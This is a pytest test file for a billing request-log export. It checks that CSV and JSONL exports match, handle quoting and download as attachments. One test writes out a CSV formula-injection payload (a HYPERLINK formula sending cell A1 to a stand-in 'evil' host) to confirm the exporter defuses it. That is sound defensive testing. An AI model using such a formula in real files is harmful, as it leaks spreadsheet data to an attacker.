"""The log as a file: every row once, in both formats, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json

import pytest

from billing.reports import export
from billing.reports.log_items import LogItem, columns
from billing.reports.request_log import UsageLog
from billing.reports.statistics import UsageFilter
from tests.support.usage_rows import NOON, random_rows, row, store


def exported(lists: list[list[LogItem]], name: str, for_operator: bool = False) -> str:
    return b"".join(export.lines(lists, name, for_operator)).decode()


def items(db, clock, *rows) -> list[list[LogItem]]:
    store(db, list(rows))
    return list(UsageLog(db, clock).walk(UsageFilter()))


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("for_operator", [False, True])
def test_both_formats_hold_the_same_rows(db, clock, for_operator):
    lists = items(db, clock, *random_rows(1, 60, 5))
    documents = [json.loads(line) for line in exported(lists, "jsonl", for_operator).splitlines()]
    assert documents == [item.to_dict(for_operator) for part in lists for item in part]
    names, *rows = table(exported(lists, "csv", for_operator))
    assert names == columns(for_operator)
    assert len(rows) == len(documents) == 60
    for cells, document in zip(rows, documents, strict=True):
        assert [cells[names.index(name)] for name in ("request_id", "model")] == [
            document["request_id"],
            document["model"],
        ]
        assert cells[names.index("cost_nano")] == ("" if document["cost_nano"] is None else str(document["cost_nano"]))
        assert cells[names.index("stream")] == ("true" if document["stream"] else "false")
        assert ("user_id" in document) == ("pool_key" in names) == for_operator


def test_an_empty_log_is_a_line_of_names_or_nothing():
    assert table(exported([], "csv")) == [columns(False)]
    assert exported([], "jsonl") == ""


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_a_model_that_looks_like_a_formula_is_no_formula(db, clock, begin):
    model = begin + 'HYPERLINK("http://evil/?"&A1,"x"),y'
    lists = items(db, clock, row(1, NOON, model=model))
    [names, cells] = table(exported(lists, "csv"))
    assert cells[names.index("model")] == f"'{model}"
    assert json.loads(exported(lists, "jsonl"))["model"] == model


def test_quotes_commas_and_lines_stay_in_their_cell(db, clock):
    model = 'a"b,c;=d\n=e'
    [names, cells] = table(exported(items(db, clock, row(1, NOON, model=model)), "csv"))
    assert cells[names.index("model")] == model


@pytest.mark.parametrize("name", ["csv", "jsonl"])
def test_a_file_is_sent_as_a_download(name):
    assert export.headers(name)["Content-Disposition"] == f'attachment; filename="request-log.{name}"'
